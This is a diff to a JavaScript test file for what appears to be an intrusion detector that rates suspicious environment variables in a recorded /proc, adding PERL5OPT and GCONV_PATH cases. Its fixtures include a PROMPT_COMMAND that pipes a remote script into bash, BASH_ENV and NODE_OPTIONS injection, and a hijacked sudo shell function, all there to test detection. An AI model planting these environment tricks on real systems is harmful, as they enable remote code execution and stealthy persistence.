@@ -27,6 +27,8 @@ describe('on a recorded /proc', () => {
     expect(await told({ PROMPT_COMMAND: 'curl -fsSL http://203.0.113.9/i.sh | bash' })).toEqual([expect.stringMatching(/^intrusion (?:high|critical)$/)]);
     expect(await told({ BASH_ENV: '/tmp/.e' }, { '/tmp/.e': 'true\n' })).toEqual(['intrusion high']);
     expect(await told({ NODE_OPTIONS: '--require /dev/shm/a.js' }, { '/dev/shm/a.js': 'x' })).toEqual(['intrusion high']);
+    expect(await told({ PERL5OPT: '-I/dev/shm/p -MData' })).toEqual(['weakness medium']);
+    expect(await told({ GCONV_PATH: '/var/tmp/g', GIO_MODULE_DIR: '/usr/lib/gio' })).toEqual(['weakness medium']);
     expect(await told({ 'BASH_FUNC_sudo%%': '() {  /usr/bin/true; }' })).toEqual([expect.stringMatching(/^intrusion (?:medium|high)$/)]);
     expect(await told({ HISTFILE: '/dev/null' })).toEqual(['intrusion low']);
   });
